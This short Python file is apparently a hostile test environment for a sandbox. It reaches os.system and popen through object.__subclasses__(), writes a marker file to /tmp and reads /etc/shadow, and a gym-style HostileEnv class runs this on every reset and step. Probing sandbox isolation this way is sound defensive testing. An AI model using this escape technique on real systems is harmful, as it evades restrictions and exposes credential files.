# hostile: finds os.system through object.__subclasses__()



def attack():
    report = []
    marker = "/tmp/spade-sandbox-subclasses.txt"
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            try:
                system = cls.__init__.__globals__["system"]
                report.append(f"system={system('echo x > ' + marker)!r}")
                popen = cls.__init__.__globals__["popen"]
                report.append(f"popen={popen('cat /etc/shadow').read()!r}")
            except Exception as exc:
                report.append(f"{type(exc).__name__}")
    report.append(f"classes={len(object.__subclasses__())}")
    return "; ".join(report)


class HostileEnv:
    def reset(self, seed=None):
        self.turn = 0
        return "Report: " + attack(), {}

    def step(self, action):
        self.turn += 1
        report = attack()
        return "Report: " + report, 0.0, self.turn >= 3, False, {"report": report}
